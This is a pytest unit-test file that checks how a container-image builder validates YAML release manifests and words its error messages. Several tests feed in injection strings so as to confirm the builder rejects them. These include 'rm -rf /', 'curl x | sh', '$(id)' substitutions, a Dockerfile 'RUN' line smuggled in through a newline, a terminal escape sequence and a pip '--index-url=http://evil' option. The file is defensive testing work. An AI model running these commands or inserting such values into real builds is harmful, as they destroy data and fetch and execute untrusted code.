"""Manifest mistakes: one test per kind, each reported as `file:line: field: message`."""

from __future__ import annotations

from pathlib import Path

import pytest

from ngc_builder.errors import InputError
from ngc_builder.manifest.load import load_release
from tests.conftest import WriteRelease
from tests.unit.conftest import GOOD_RELEASE

pytestmark = pytest.mark.unit


def problems(write_release: WriteRelease, text: str) -> list[str]:
    with pytest.raises(InputError) as caught:
        load_release(write_release(text))
    return [str(p) for p in caught.value.problems]


def test_good_release_loads(write_release: WriteRelease) -> None:
    loaded = load_release(write_release(GOOD_RELEASE))
    assert [i.image_name for i in loaded.release.images] == ["pytorch", "jax"]
    assert loaded.base.python == "3.13"


def test_unknown_key_names_line_and_field(write_release: WriteRelease) -> None:
    text = GOOD_RELEASE.replace('    stack: cu13\n  - framework: jax',
                                '    stack: cu13\n    colour: blue\n  - framework: jax')
    assert problems(write_release, text) == [
        "releases/26.11.yaml:24: images[0].colour: unknown field"]


def test_unknown_top_level_key(write_release: WriteRelease) -> None:
    assert problems(write_release, GOOD_RELEASE + "extra: 1\n") == [
        "releases/26.11.yaml:27: extra: unknown field"]


def test_missing_field(write_release: WriteRelease) -> None:
    text = GOOD_RELEASE.replace("registry: localhost:5000\n", "")
    assert problems(write_release, text) == ["releases/26.11.yaml:1: registry: Field required"]


def test_number_instead_of_string_gets_a_quoting_hint(write_release: WriteRelease) -> None:
    text = GOOD_RELEASE.replace('release: "26.11"', "release: 26.10")
    assert problems(write_release, text) == [
        "releases/26.11.yaml:1: release: write it as a quoted string "
        "(YAML read 26.1 as a number)"]


def test_bad_release_id(write_release: WriteRelease) -> None:
    text = GOOD_RELEASE.replace('release: "26.11"', 'release: "26.13"')
    found = problems(write_release, text)
    assert found == ["releases/26.11.yaml:1: release: '26.13' is not a valid release id (YY.MM)"]


@pytest.mark.parametrize("evil", [
    "2.15.0; rm -rf /", "2.15.0 && curl x | sh", "$(reboot)", "`id`", "2.15.0\nRUN id",
])
def test_shell_in_a_version_is_rejected(write_release: WriteRelease, evil: str) -> None:
    text = GOOD_RELEASE.replace('version: "2.15.0"', f"version: {evil!r}".replace("'", '"'))
    found = problems(write_release, text)
    assert len(found) == 1 and "images[0].version" in found[0]
    assert "is not a valid version" in found[0]


@pytest.mark.parametrize("field,evil", [
    ("nvidia-cublas", "nvidia-cublas$(id)"),
    ("nvidia-cublas", "nvidia-cublas;ls"),
])
def test_shell_in_a_package_name_is_rejected(
    write_release: WriteRelease, field: str, evil: str
) -> None:
    text = GOOD_RELEASE.replace(f"      {field}:", f'      "{evil}":')
    found = problems(write_release, text)
    assert any("cuda_stacks.cu13.wheels" in p and "not a valid package name" in p for p in found)


@pytest.mark.parametrize("evil", ["localhost:5000;id", "host/$(id)", "HOST:5000 x"])
def test_shell_in_registry_is_rejected(write_release: WriteRelease, evil: str) -> None:
    text = GOOD_RELEASE.replace("registry: localhost:5000", f'registry: "{evil}"')
    found = problems(write_release, text)
    assert found == [f"releases/26.11.yaml:2: registry: {evil!r} is not a valid registry "
                     "(host[:port][/namespace])"]


def test_unknown_stack(write_release: WriteRelease) -> None:
    text = GOOD_RELEASE.replace("    stack: cu13\n  - framework: jax",
                                "    stack: cu99\n  - framework: jax")
    assert problems(write_release, text) == [
        "releases/26.11.yaml:23: images[0].stack: no cuda_stacks.cu99"]


def test_unknown_framework(write_release: WriteRelease) -> None:
    text = GOOD_RELEASE.replace("framework: jax", "framework: caffe9")
    assert problems(write_release, text) == [
        "releases/26.11.yaml:24: images[1].framework: no complete frameworks/caffe9/ folder"]


def test_unknown_variant(write_release: WriteRelease) -> None:
    text = GOOD_RELEASE.replace('version: "0.12.0"', 'version: "0.12.0"\n    variant: rocm')
    found = problems(write_release, text)
    assert found == ["releases/26.11.yaml:26: images[1].variant: jax has no variant 'rocm' "
                     "(has: cpu, default)"]


@pytest.mark.parametrize(("field", "offered", "kept", "asked", "stranger"), [
    ("tools", "[jupyterlab, tensorboard]", "jupyterlab",
     {"jupyterlab": "4.6.6", "tensorboard": "2.21.0"}, "vscode"),
    ("addons", "[nvtx, nvidia-nvimgcodec-cu13, nvidia-cudnn-frontend]", "nvtx",
     {"nvtx": "0.2.17", "nvidia-cudnn-frontend": "1.28.0"}, "apex"),
])
def test_a_tool_or_addon_the_framework_does_not_offer_is_named(
        write_release: WriteRelease, project: Path, field: str, offered: str, kept: str,
        asked: dict[str, str], stranger: str) -> None:
    spec = project / "frameworks" / "jax" / "framework.yaml"
    spec.write_text(spec.read_text().replace(f"{field}: {offered}", f"{field}: [{kept}]"))

    def row(names: dict[str, str]) -> str:
        lines = "".join(f'      {name}: "{version}"\n' for name, version in names.items())
        return GOOD_RELEASE.replace('version: "0.12.0"\n',
                                    f'version: "0.12.0"\n    {field}:\n{lines}')
    [refused] = [name for name in asked if name != kept]
    assert problems(write_release, row(asked)) == [
        f"releases/26.11.yaml:28: images[1].{field}.{refused}: jax does not offer {refused} "
        f"(frameworks/jax/framework.yaml {field}: {kept})"]
    assert any(f"images[1].{field}" in line and stranger in line
               for line in problems(write_release, row({stranger: "1.0"})))


@pytest.mark.parametrize("reason", ["a\\x1b]2;pwned\\x07", "two\\nlines", "x" * 401])
def test_an_unavailable_addons_reason_is_one_plain_line(write_release: WriteRelease,
                                                       reason: str) -> None:
    """It is pasted into the release notes: no escape sequence, no second line."""
    text = GOOD_RELEASE.replace('version: "0.12.0"\n', 'version: "0.12.0"\n'
                                f'    unavailable_addons:\n      apex: "{reason}"\n')
    [problem] = problems(write_release, text)
    assert "images[1].unavailable_addons.apex" in problem and "one line" in problem


def test_python_too_old_for_framework(write_release: WriteRelease) -> None:
    text = GOOD_RELEASE.replace("base: debian-trixie", "base: debian-bookworm")
    found = problems(write_release, text)
    assert found == ["releases/26.11.yaml:24: images[1].framework: jax needs Python >=3.12, "
                     "base debian-bookworm has 3.11"]


def test_cuda_major_mismatch(write_release: WriteRelease) -> None:
    text = GOOD_RELEASE.replace('cuda: "13.2"', 'cuda: "12.9"')
    found = problems(write_release, text)
    assert "images[0].stack: pytorch needs CUDA 13, stack cu13 is CUDA 12.9" in found[0]
    assert len(found) == 2


def test_duplicate_image_names(write_release: WriteRelease) -> None:
    text = GOOD_RELEASE + '  - framework: jax\n    version: "0.12.0"\n    stack: cu13\n'
    assert problems(write_release, text) == [
        "releases/26.11.yaml:27: images[2].name: image name 'jax' is taken"]


@pytest.mark.parametrize("name", ["base", "base-debian-bookworm", "cuda-cu13"])
def test_generated_image_names_are_reserved(write_release: WriteRelease, name: str) -> None:
    # Named so, a framework image would overwrite that generated parent's build context and
    # another image would be built FROM the wrong parent.
    text = GOOD_RELEASE + f'  - framework: jax\n    name: {name}\n    version: "0.12.0"\n' \
        "    stack: cu13\n"
    assert problems(write_release, text) == [
        f"releases/26.11.yaml:28: images[2].name: image name {name!r} is reserved for the "
        "generated images (base, base-<os>, cuda-<stack>)"]


@pytest.mark.parametrize(("registry", "message"), [
    ("localhost:99999", "port 99999 of 'localhost:99999' is out of range (1-65535)"),
    ("r" * 300, "a registry of 300 characters (at most 255)"),
    ("Registry.Example", "'Registry.Example' is not a valid registry (host[:port][/namespace])"),
])
def test_a_registry_docker_would_refuse_is_refused_by_check(
        write_release: WriteRelease, registry: str, message: str) -> None:
    text = GOOD_RELEASE.replace("registry: localhost:5000", f"registry: {registry}")
    assert problems(write_release, text) == [
        f"releases/26.11.yaml:2: registry: {message}"]


def test_an_os_version_that_cannot_be_a_tag_is_refused(write_release: WriteRelease,
                                                       project: Path) -> None:
    base = project / "base-images" / "debian-trixie.yaml"
    base.write_text(base.read_text().replace('os_version: "13"', 'os_version: "13+deb13u1"'))
    found = problems(write_release, GOOD_RELEASE)
    assert found[0].startswith("base-images/debian-trixie.yaml:4: os_version: "
                               "'13+deb13u1' is not a valid OS version (it becomes an image tag")


def test_duplicate_yaml_key(write_release: WriteRelease) -> None:
    text = GOOD_RELEASE.replace("base: debian-trixie", "base: debian-trixie\nbase: other")
    assert problems(write_release, text) == ["releases/26.11.yaml:4: base: duplicate key"]


def test_yaml_syntax_error_has_its_line(write_release: WriteRelease) -> None:
    found = problems(write_release, GOOD_RELEASE.replace("images:", "images: [oops"))
    assert len(found) == 1 and found[0].startswith("releases/26.11.yaml:")
    assert "(yaml)" in found[0]


def test_library_must_come_from_a_stack_wheel(write_release: WriteRelease) -> None:
    text = GOOD_RELEASE.replace("nccl: nvidia-nccl-cu13", "nccl: nvidia-nccl-cu12")
    found = problems(write_release, text)
    assert found == ["releases/26.11.yaml:5: cuda_stacks.cu13: libraries name wheels that "
                     "are not in wheels: ['nvidia-nccl-cu12']"]


def test_every_problem_is_reported_at_once(write_release: WriteRelease) -> None:
    text = GOOD_RELEASE.replace("framework: jax", "framework: nope").replace(
        "    stack: cu13\n  - framework", "    stack: cu99\n  - framework")
    assert len(problems(write_release, text)) == 2


def test_framework_file_errors_name_that_file(write_release: WriteRelease) -> None:
    folder = write_release(GOOD_RELEASE).parent.parent / "frameworks" / "jax"
    (folder / "framework.yaml").write_text(
        (folder / "framework.yaml").read_text() + "surprise: yes\n")
    found = problems(write_release, GOOD_RELEASE)
    assert "frameworks/jax/framework.yaml:" in found[0] and "surprise: unknown field" in found[0]


def test_requirement_template_without_pin_is_rejected(write_release: WriteRelease) -> None:
    folder = write_release(GOOD_RELEASE).parent.parent / "frameworks" / "pytorch"
    (folder / "framework.yaml").write_text(
        (folder / "framework.yaml").read_text().replace('"torch=={version}"', '"torch"'))
    found = problems(write_release, GOOD_RELEASE)
    assert any("requirements.default[0]" in p and "must pin a version" in p for p in found)


def test_requirement_cannot_smuggle_pip_options(write_release: WriteRelease) -> None:
    folder = write_release(GOOD_RELEASE).parent.parent / "frameworks" / "pytorch"
    (folder / "framework.yaml").write_text((folder / "framework.yaml").read_text().replace(
        '"torch=={version}"', '"--index-url=http://evil torch=={version}"'))
    found = problems(write_release, GOOD_RELEASE)
    assert any("is not a valid requirement" in p for p in found)


def test_missing_base_image(write_release: WriteRelease) -> None:
    text = GOOD_RELEASE.replace("base: debian-trixie", "base: plan9")
    assert problems(write_release, text) == [
        "releases/26.11.yaml:3: base: no base-images/plan9.yaml"]
